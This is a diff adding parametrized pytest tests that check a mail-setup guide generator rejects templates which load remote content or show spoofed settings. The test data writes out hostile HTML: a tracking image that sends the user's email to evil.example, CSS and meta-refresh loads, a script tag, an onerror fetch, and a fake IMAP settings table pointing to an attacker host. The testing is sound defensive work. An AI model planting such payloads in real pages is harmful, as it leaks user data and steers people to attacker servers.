@@ -242,3 +242,49 @@ def test_partials_hidden_files_and_a_partly_shadowed_target_are_accepted(tmp_pat
     assert build(reference, None, "--only", "apple,guide")[0] == 0
     for path in (PROFILE, "mario@esempio.it/guide/mario@esempio.it.html"):
         assert (tmp_path / "out" / path).read_bytes() == (reference / "out" / path).read_bytes()
+
+
+GUIDE_TRICKS = {
+    "a tracking image": ('<img src="https://evil.example/t.gif?u={{ mailbox.email|urlencode }}">',
+                         "<img src='https://evil.example/t.gif?u=mario%40esempio.it'> loads a remote resource"),
+    "a scheme-relative image": ('<img src="//evil.example/t.gif">', "<img src='//evil.example/t.gif'> loads a "
+                                                                   "remote resource"),
+    "a remote background": ('<p style="background: url(\'https://evil.example/x\')">x</p>',
+                            "<p style=\"background: url('https://evil.example/x')\"> loads a remote resource"),
+    "a style sheet import": ("<style>@import 'https://evil.example/x.css';</style>",
+                             "a style sheet that loads a remote resource"),
+    "a script": ("<script>document.title = 1</script>", "<script> runs or loads content when the guide is opened"),
+    "an event handler": ('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="fetch(1)">',
+                         "<img onerror> runs a script"),
+    "a refresh to elsewhere": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+                               "<meta content='0;url=https://evil.example/'> loads a remote resource"),
+    # A first settings table shows the reader other servers; the proof read the last one.
+    "a second settings table": ('<table id="settings"><tr data-key="x"><td>imap.evil.example</td></tr></table>',
+                                "a second <table id='settings'>"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(GUIDE_TRICKS))
+def test_a_guide_template_cannot_load_remote_content_or_show_unproven_settings(tmp_path: Path, case: str) -> None:
+    added, problem = GUIDE_TRICKS[case]
+    where = "<body>" if case == "a second settings table" else "</body>"
+    templates = override(tmp_path, "guide/guide.html.j2", lambda s: s.replace(where, where + added + "\n", 1)
+                         if where == "<body>" else s.replace(where, added + "\n" + where, 1))
+    status, output = build(tmp_path, templates, "--only", "guide")
+    assert status == 1, output
+    lines = output.splitlines()
+    assert lines[0] == "error: mario@esempio.it/guide/mario@esempio.it.html: the rendered file does not say what " \
+                       "the spec says:"
+    assert lines[1].startswith("  not readable HTML: line ") and lines[1].endswith(f": {problem}"), lines[1]
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_guide_template_may_link_anywhere(tmp_path: Path) -> None:
+    """A link is followed only when the reader clicks it."""
+    templates = override(tmp_path, "guide/guide.html.j2",
+                         lambda s: s.replace("</body>", '<p><a href="https://intranet.example/mail">Help</a></p>\n'
+                                             "</body>"))
+    status, output = build(tmp_path, templates, "--only", "guide")
+    assert status == 0, output
+    html = (tmp_path / "out" / "mario@esempio.it" / "guide" / "mario@esempio.it.html").read_text(encoding="utf-8")
+    assert '<a href="https://intranet.example/mail">Help</a>' in html
